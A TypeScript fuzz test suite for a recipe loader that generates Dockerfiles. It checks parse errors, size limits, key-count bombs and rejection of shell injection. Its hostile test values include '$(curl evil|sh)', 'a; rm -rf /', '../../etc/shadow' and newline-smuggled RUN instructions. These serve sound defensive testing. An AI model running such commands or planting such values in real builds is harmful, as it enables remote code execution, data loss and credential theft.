/**
 * The recipe loader against generated documents (fast-check): whatever the text, it either loads
 * or fails with a MabError that names the file, line and column. Never another exception, and
 * never a hang (the test's timeout would catch one). 10,000+ documents per run, from three
 * sources: mutations of a real recipe, recipe-shaped mappings with hostile values, and raw text.
 * And 10,000 more, one hostile value in one field each (line breaks, carriage returns, NUL, a
 * trailing backslash, heredoc markers, Dockerfile keywords): a recipe that loads generates exactly
 * the instructions the template makes for that recipe with a harmless value there. Key-count
 * bombs are generated too; recipe folders full of links are in test/unit/recipe-links.test.ts.
 */
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { DockerfileParser } from 'dockerfile-ast';
import { parse, stringify } from 'yaml';
import { describe, expect, it } from 'vitest';
import { GOOD_RECIPE } from '../../test/fixtures/recipe-text.js';
import { generateDockerfile } from '../dockerfile/generate.js';
import { MabError } from '../errors.js';
import { parsePlatform } from '../platform/platform.js';
import { MAX_RECIPE_BYTES, TOP_KEYS, loadRecipeFile, parseRecipe } from './load.js';

const GOOD = GOOD_RECIPE;

// Every key a recipe may have, and keys of its sections: what a fuzzed mapping is made of.
const KEYS = [
  ...TOP_KEYS,
  'packages',
  'keep',
  'steps',
  'url',
  'sha256',
  'file',
  'path',
  'run',
  'shell',
  'expect',
  'http',
  'port',
];
// Values a hostile or careless author writes: shell, traversal, absolute paths, control bytes, huge.
const nasty = fc.oneof(
  { arbitrary: fc.constant('A'.repeat(100_000)), weight: 1 },
  {
    arbitrary: fc.constantFrom(
      '$(curl evil|sh)',
      '`id`',
      'a; rm -rf /',
      '../../etc/shadow',
      '/etc/passwd',
      'x\ny',
      'a\u0000b',
      '"quoted"',
      "it's",
      '*',
      '~',
      '-rf',
      '',
      ' ',
      'linux/arm64',
      'amd64',
      '1.0.0',
      '60MB',
      '{version}',
      '%s%n',
    ),
    weight: 40,
  },
  { arbitrary: fc.string({ maxLength: 40 }), weight: 20 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }), weight: 10 },
  { arbitrary: fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null)), weight: 20 },
);
const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  v: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    nasty,
    fc.array(tie('v'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...KEYS), fc.string({ maxLength: 8 })), tie('v'), { maxKeys: 5 }),
  ),
})).v;
const recipeShaped = fc.dictionary(fc.constantFrom(...KEYS), value, { maxKeys: 10 }).map((o) => stringify(o));
const mutated = fc
  .array(fc.tuple(fc.nat(GOOD.length), fc.nat(8), fc.string({ maxLength: 6 })), { minLength: 1, maxLength: 4 })
  .map((edits) => edits.reduce((text, [at, del, ins]) => text.slice(0, at) + ins + text.slice(at + del), GOOD));
const raw = fc.string({ unit: 'binary', maxLength: 300 });

/** Loads, or fails as a user error pointing at r.yaml:LINE:COL. */
function loadsOrFailsClearly(text: string): void {
  try {
    parseRecipe('r.yaml', text);
  } catch (e) {
    if (!(e instanceof MabError))
      throw new Error(`not a MabError: ${(e as Error).stack}\n--- document ---\n${text.slice(0, 2000)}`);
    expect(e.format()).toMatch(/^r\.yaml:\d+:\d+: /);
  }
}

describe('the recipe loader, fuzzed', () => {
  it.each([
    ['mutations of a real recipe', mutated, 4000],
    ['recipe-shaped documents with hostile values', recipeShaped, 4000],
    ['raw text', raw, 2500],
  ] as const)(
    '%s: loads or fails with file:line:col',
    (_name, arb, numRuns) => {
      fc.assert(
        fc.property(arb, (text) => loadsOrFailsClearly(text)),
        { numRuns, ...(process.env.MAB_FUZZ_SEED ? { seed: Number(process.env.MAB_FUZZ_SEED) } : {}) },
      );
    },
    120_000,
  );
});

describe('hostile recipe files', () => {
  it('refuses a recipe over 1 MiB before parsing it', async () => {
    const file = path.join(await mkdtemp(path.join(os.tmpdir(), 'mab-huge-')), 'huge.yaml');
    await writeFile(file, GOOD + `description: "${'x'.repeat(MAX_RECIPE_BYTES)}"\n`);
    await expect(loadRecipeFile(file)).rejects.toThrow(/huge\.yaml is \d+ bytes; a recipe may be at most 1048576/);
  });

  // Key-count bombs at the size limit: each key was compared with every other before (116k keys
  // ran for over 590 s). The time per size is a benchmark figure (npm run bench -- recipe-parse);
  // here the timeout (30 s: the engine suite runs beside this one and can slow it six-fold) is only
  // a bound that a quadratic check would not meet.
  it.each([
    ['env keys', 'env:\n', (i: number) => `  K${i}: v\n`],
    ['label keys', 'labels:\n', (i: number) => `  org.example.k${i}: v\n`],
    ['flow-style env keys', 'env: {', (i: number) => `K${i}: v, `],
  ])(
    'loads a recipe of %s up to the 1 MiB limit, and finds a key given twice among them',
    (_name, head, entry) => {
      let text = GOOD.replace(/^env:\n.*\n/m, '') + head;
      for (let i = 0; text.length < MAX_RECIPE_BYTES - 64; i++) text += entry(i);
      const close = head.endsWith('{') ? '}\n' : '';
      expect(
        Object.keys(parseRecipe('r.yaml', text + close)[head.startsWith('env') ? 'env' : 'labels']).length,
      ).toBeGreaterThan(40_000);
      expect(() => parseRecipe('r.yaml', text + entry(7) + close)).toThrow(
        /the key "(K|org\.example\.k)7" appears twice in this mapping/,
      );
    },
    30_000,
  );

  // The same shapes, generated: any number of keys up to 40k, block or flow style, in the recipe
  // or in a platform override, with or without one key written twice at a random place.
  it('loads generated key-count bombs, or names the key written twice at its line', () => {
    const bomb = fc.record({
      keys: fc.integer({ min: 1, max: 40_000 }),
      shape: fc.constantFrom('env', 'labels', 'flow env', 'override env'),
      twice: fc.option(fc.nat(), { nil: undefined }),
    });
    fc.assert(
      fc.property(bomb, ({ keys, shape, twice }) => {
        const key = (i: number) => (shape === 'labels' ? `org.example.k${i}` : `K${i}`);
        const names = Array.from({ length: keys }, (_, i) => key(i));
        if (twice !== undefined) names.splice(1 + (twice % keys), 0, key(twice % keys));
        const entries =
          shape === 'flow env'
            ? `env: {${names.map((k) => `${k}: v`).join(', ')}}\n`
            : shape === 'override env'
              ? `overrides:\n  linux/arm64:\n    env:\n${names.map((k) => `      ${k}: v\n`).join('')}`
              : `${shape}:\n${names.map((k) => `  ${k}: v\n`).join('')}`;
        const text = GOOD.replace(/^env:\n.*\n/m, '') + entries;
        if (twice === undefined) {
          const r = parseRecipe('r.yaml', text);
          const got =
            shape === 'labels' ? r.labels : shape === 'override env' ? r.overrides['linux/arm64']!.env! : r.env;
          expect(Object.keys(got)).toHaveLength(keys);
          return;
        }
        const dup = key(twice % keys);
        const line =
          shape === 'flow env'
            ? text.split('\n').findIndex((l) => l.startsWith('env: {')) + 1
            : text.split('\n').lastIndexOf(text.split('\n').find((l) => l.trim() === `${dup}: v`)!) + 1;
        expect(() => parseRecipe('r.yaml', text)).toThrow(
          new RegExp(
            `^r\\.yaml:${line}:\\d+: invalid YAML: the key "${dup.replace(/\./g, '\\.')}" appears twice in this mapping`,
          ),
        );
      }),
      { numRuns: 40, ...(process.env.MAB_FUZZ_SEED ? { seed: Number(process.env.MAB_FUZZ_SEED) } : {}) },
    );
  }, 120_000);

  it('keeps shell out of every field that reaches a RUN line', () => {
    const inject = '$(touch /tmp/pwned)';
    // Each with the message fragment that shows it failed for that field, not for something else.
    const fields: [string, string, string][] = [
      [
        'build.packages',
        GOOD.replace('[build-essential, libfoo-dev]', `["${inject}"]`),
        'build.packages[0]: "$(touch /tmp/pwned)" is not a Debian package name',
      ],
      ['runtime.packages', GOOD.replace('[libfoo1]', `["${inject}"]`), 'runtime.packages[0]: "$(touch'],
      [
        'runtime.keep',
        GOOD.replace('keep: [/usr/local/bin/demo]', `keep: ["/usr/${inject}"]`),
        'runtime.keep[0]: "/usr/$(touch',
      ],
      ['sources[0].file', GOOD.replace('file: demo.tar.gz', `file: "${inject}"`), 'sources[0].file: "$(touch'],
      ['workdir', GOOD + `workdir: "/srv/${inject}"\n`, 'recipe.workdir: "/srv/$(touch'],
      ['user', GOOD + `user: "${inject}"\n`, 'recipe.user: "$(touch'],
      ['files', GOOD + `files: ["${inject}"]\n`, 'recipe.files[0]: "$(touch'],
      ['env key', GOOD.replace('DEMO_MODE: fast', `"A=1 ${inject}": x`), 'env key: "A=1 $(touch'],
      // A line break would end an ENV or LABEL instruction and start one of the recipe's choosing.
      ['env value', GOOD.replace('DEMO_MODE: fast', `DEMO_MODE: "x\\nRUN ${inject}"`), 'env.DEMO_MODE: "x\\nRUN'],
      ['label value', GOOD + `labels: { org.example.a: "x\\nRUN ${inject}" }\n`, 'labels.org.example.a: "x\\nRUN'],
      ['description', GOOD + `description: "x\\nRUN ${inject}"\n`, 'recipe.description: "x\\nRUN'],
      // The same for a build step, which is the RUN line itself.
      ['build.steps', GOOD.replace('steps: [make]', `steps: ["make\\nRUN ${inject}"]`), 'build.steps[0]: "make\\nRUN'],
    ];
    for (const [field, text, fragment] of fields) {
      let error = '';
      try {
        parseRecipe('r.yaml', text);
      } catch (e) {
        error = (e as MabError).format();
      }
      expect(error, field).toMatch(/^r\.yaml:\d+:\d+: /);
      expect(error, field).toContain(fragment);
    }
  });
});

/** Where a value goes, and a harmless value for it: the recipe with that value is the baseline. */
const FIELDS: [path: (string | number)[], harmless: string][] = [
  [['build', 'steps', 0], 'make'],
  [['env', 'DEMO_MODE'], 'fast'],
  [['description'], 'a demo'],
  [['license'], 'MIT'],
  [['homepage'], 'https://example.org'],
  [['labels', 'org.example.note'], 'x'],
  [['user'], 'demo'],
  [['workdir'], '/srv'],
  [['entrypoint', 0], 'demo'],
  [['cmd', 0], '--help'],
  [['runtime', 'keep', 0], '/usr/local/bin/demo'],
  [['build', 'packages', 0], 'libfoo-dev'],
  [['smoke', 0, 'expect'], 'demo'],
  [['strategies', 'cross', 'steps', 0], '$CC -o demo demo.c'],
];
const SPECIALS = [
  '\n',
  '\r',
  '\r\n',
  '\u0000',
  '\\',
  '\\\n',
  '\t',
  '<<EOF',
  '<<-EOF',
  '"',
  "'",
  '$(id)',
  'RUN id',
  'USER root',
  '# x',
  ' ',
  '{{x}}',
  'EOF',
];
const hostile = fc
  .array(fc.oneof(fc.constantFrom(...SPECIALS), fc.string({ maxLength: 6 })), { minLength: 1, maxLength: 6 })
  .map((parts) => parts.join(''));

function withValue(path: (string | number)[], v: string): string {
  const doc = parse(GOOD) as Record<string, unknown>;
  doc.strategies = { multistage: null, cross: { steps: ['x'] } };
  let at: Record<string | number, unknown> = doc;
  for (const [i, key] of path.slice(0, -1).entries())
    at = (at[key] ??= typeof path[i + 1] === 'number' ? [] : {}) as Record<string | number, unknown>;
  at[path.at(-1)!] = v;
  return stringify(doc);
}

const TEMPLATE = await readFile(path.join(import.meta.dirname, '../../templates/app.Dockerfile'), 'utf8');
/**
 * Each instruction's keyword, of the multistage and cross Dockerfiles, and every RUN with a heredoc
 * marker (BuildKit would read the lines after it as the heredoc's body; CMD and ENTRYPOINT in JSON
 * form are not read for heredocs).
 */
function instructions(text: string): string[] {
  const recipe = parseRecipe('r.yaml', text);
  return (['multistage', 'cross'] as const).flatMap((strategy) => {
    const dockerfile = generateDockerfile(TEMPLATE, strategy, recipe, parsePlatform('linux/arm64'), 'r.yaml');
    return DockerfileParser.parse(dockerfile)
      .getInstructions()
      .map((i) => (i.getKeyword() === 'RUN' && i.getTextContent().includes('<<') ? 'RUN <<' : i.getKeyword()));
  });
}

describe('one hostile value in one field, fuzzed', () => {
  it("loads and makes exactly the template's instructions, or fails at file:line:col", () => {
    const baseline = new Map(FIELDS.map(([p, harmless]) => [p.join('.'), instructions(withValue(p, harmless))]));
    let loaded = 0;
    fc.assert(
      fc.property(fc.constantFrom(...FIELDS), hostile, ([p], v) => {
        const text = withValue(p, v);
        let got: string[];
        try {
          got = instructions(text);
        } catch (e) {
          if (!(e instanceof MabError)) throw e;
          expect(e.format()).toMatch(/^(r\.yaml:\d+:\d+: |generated Dockerfile for )/);
          return;
        }
        loaded++;
        expect(got, `${p.join('.')} = ${JSON.stringify(v)}`).toEqual(baseline.get(p.join('.')));
      }),
      { numRuns: 10_000, ...(process.env.MAB_FUZZ_SEED ? { seed: Number(process.env.MAB_FUZZ_SEED) } : {}) },
    );
    // Not a test of refusals alone: many hostile values are harmless text and load.
    expect(loaded).toBeGreaterThan(1000);
  }, 120_000);
});
